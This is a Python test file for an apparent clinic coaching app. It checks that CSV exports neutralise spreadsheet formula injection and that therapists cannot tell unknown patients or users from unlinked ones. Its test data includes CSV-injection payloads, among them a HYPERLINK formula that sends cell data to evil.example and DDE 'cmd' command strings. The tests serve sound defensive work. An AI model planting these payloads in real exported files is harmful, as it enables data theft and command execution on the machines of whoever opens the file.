"""CSV exports cannot carry spreadsheet formulas; unknown and unauthorised get one message."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from coach.cli.main import app
from coach.store import NotFoundError, NotVisibleError, PermissionDeniedError
from coach.store.csv_cells import FORMULA_TRIGGERS, csv_cell
from tests.support.store_clinic import Clinic

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    assert csv_cell("Push your knees out") == "Push your knees out"
    assert csv_cell(-12.5) == -12.5
    assert csv_cell(None) is None
    assert csv_cell("") == ""


def _record_cues(clinic: Clinic, messages: list[str]) -> None:
    patient = clinic.patient
    session_id = patient.recording.start_session(
        clinic.patient_user.id, backend="=cmd|' /C calc'!A0"
    )
    for index, message in enumerate(messages):
        patient.recording.record_cue(
            session_id, at_ms=100 * index, code=f"c{index}", message=message, severity="info"
        )
    patient.recording.finish_session(session_id)


def _cells(document: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(document)) for cell in row]


def test_the_app_export_neutralises_every_hostile_cell(clinic: Clinic) -> None:
    _record_cues(clinic, HOSTILE)
    # the app's "Download CSV" button serves exactly this document
    document = clinic.therapist.exports.export_history(clinic.patient_user.id, "csv")
    rows = list(csv.DictReader(io.StringIO(document)))
    assert [r["cue_message"] for r in rows] == ["'" + text for text in HOSTILE]
    assert {r["backend"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in _cells(document))


def test_the_cli_export_neutralises_every_hostile_cell(clinic: Clinic, db_url: str) -> None:
    _record_cues(clinic, HOSTILE)
    result = CliRunner().invoke(app, ["export", "--patient", "pat", "--db", db_url])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["cue_message"] for r in rows] == ["'" + text for text in HOSTILE]
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in _cells(result.stdout))


def _message(call: object) -> str:
    assert callable(call)
    with pytest.raises(NotVisibleError) as info:
        call()
    assert isinstance(info.value, NotFoundError) and isinstance(info.value, PermissionDeniedError)
    return str(info.value)


def test_a_therapist_cannot_tell_an_unknown_patient_id_from_an_unlinked_one(
    clinic: Clinic,
) -> None:
    unlinked = clinic.other_patient_user.id
    missing = 999_999
    therapist = clinic.therapist
    calls = {
        "sessions_for": lambda pid: therapist.history.sessions_for(pid),
        "export_history": lambda pid: therapist.exports.export_history(pid, "json"),
    }
    for call in calls.values():
        shown = [_message(lambda pid=pid, call=call: call(pid)) for pid in (unlinked, missing)]
        assert shown[0] == shown[1].replace(str(missing), str(unlinked))
        assert "Oscar" not in shown[0] and "other_pat" not in shown[0]


def test_a_therapist_cannot_tell_an_unknown_user_name_from_an_unlinked_one(
    clinic: Clinic,
) -> None:
    therapist = clinic.therapist
    unlinked = _message(lambda: therapist.accounts.find_user("other_pat"))
    missing = _message(lambda: therapist.accounts.find_user("ghost"))
    assert unlinked == missing.replace("'ghost'", "'other_pat'")
    by_id = [
        _message(lambda uid=uid: therapist.accounts.get_user(uid))
        for uid in (clinic.other_patient_user.id, 999_999)
    ]
    assert by_id[0] == by_id[1].replace("999999", str(clinic.other_patient_user.id))


def test_linking_or_resetting_an_unknown_and_a_foreign_patient_read_the_same(
    clinic: Clinic,
) -> None:
    therapist = clinic.therapist
    me = therapist.actor.user_id
    assert me is not None
    shown = []
    for pid in (clinic.other_patient_user.id, 999_999):
        with pytest.raises(PermissionDeniedError) as info:
            therapist.accounts.link_patient(me, pid)
        shown.append(str(info.value))
    assert shown[0] == shown[1]
    shown = []
    for pid in (clinic.other_patient_user.id, 999_999):
        with pytest.raises(PermissionDeniedError) as info:
            therapist.accounts.set_password(pid, "a new long password")
        shown.append(str(info.value).replace(str(pid), "ID"))
    assert shown[0] == shown[1]


def test_cli_export_says_the_same_for_an_unknown_name_and_a_non_patient(
    clinic: Clinic, db_url: str
) -> None:
    outputs = []
    for name in ("ghost", "thera"):
        result = CliRunner().invoke(app, ["export", "--patient", name, "--db", db_url])
        assert result.exit_code == 2
        outputs.append(result.stderr.replace(f"'{name}'", "NAME"))
    assert outputs[0] == outputs[1]
    assert "no patient named NAME" in outputs[0]
